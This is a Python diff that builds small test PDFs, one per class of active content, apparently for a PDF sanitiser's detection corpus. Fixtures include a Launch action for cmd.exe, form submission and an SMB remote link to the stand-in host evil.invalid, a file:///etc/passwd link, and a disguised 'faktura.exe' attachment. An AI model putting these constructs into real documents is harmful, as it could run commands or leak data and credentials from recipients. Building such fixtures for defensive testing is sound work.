@@ -165,3 +165,62 @@ def active_leftovers(pdf: pikepdf.Pdf) -> list[str]:
         if isinstance(obj, pikepdf.Stream) and b"MZ\x90" in obj.read_raw_bytes()[:8]:
             found.append("program bytes")
     return found
+
+
+def _one_class(build) -> bytes:
+    import io
+
+    pdf = _blank_pdf(1)
+    build(pdf, pdf.pages[0])
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def _link_with(action):
+    return lambda pdf, page: _add_annotation(page, _link(pdf, [72, 700, 300, 720], A=action))
+
+
+def _attachment(pdf, page):
+    exe = pdf.make_stream(b"MZ\x90\x00 not really a program")
+    exe.Type = Name.EmbeddedFile
+    _add_annotation(page, pdf.make_indirect(Dictionary(
+        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([50, 50, 70, 70]),
+        FS=Dictionary(Type=Name.Filespec, F=String("faktura.exe"), EF=Dictionary(F=exe)))))
+
+
+def _field_script(pdf, page):
+    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("navn"),
+                                          Rect=Array([300, 300, 500, 320]),
+                                          AA=Dictionary(K=_js(pdf, "event.rc = true"))))
+    _add_annotation(page, widget)
+    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
+
+
+def _page_open_script(pdf, page):
+    page.obj.AA = Dictionary(O=_js(pdf, "app.alert('page open')"))
+
+
+def _richmedia(pdf, page):
+    _add_annotation(page, pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia,
+                                                       Rect=Array([100, 400, 300, 500]),
+                                                       RichMediaContent=Dictionary(Assets=Dictionary()))))
+
+
+def one_class_pdfs() -> dict[str, bytes]:
+    """One small PDF per class of active content, by corpus name."""
+    builders = {
+        "javascript-ved-sideaabning": _page_open_script,
+        "javascript-link": lambda pdf, page: _link_with(_js(pdf, "app.alert(1)"))(pdf, page),
+        "launch-cmd-exe": _link_with(Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))),
+        "submitform": _link_with(Dictionary(S=Name.SubmitForm, F=String("http://evil.invalid/"))),
+        "gotor-smb": _link_with(Dictionary(S=Name.GoToR, F=String("\\\\evil.invalid\\x.pdf"),
+                                           D=Array([0, Name.Fit]))),
+        "uri-file": _link_with(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
+        "javascript-bag-next": lambda pdf, page: _link_with(Dictionary(
+            S=Name.URI, URI=String(SAFE_LINK), Next=_js(pdf, "this.print()")))(pdf, page),
+        "vedhaeftet-exe": _attachment,
+        "formularfelt-med-javascript-og-xfa": _field_script,
+        "richmedia": _richmedia,
+    }
+    return {name: _one_class(build) for name, build in builders.items()}
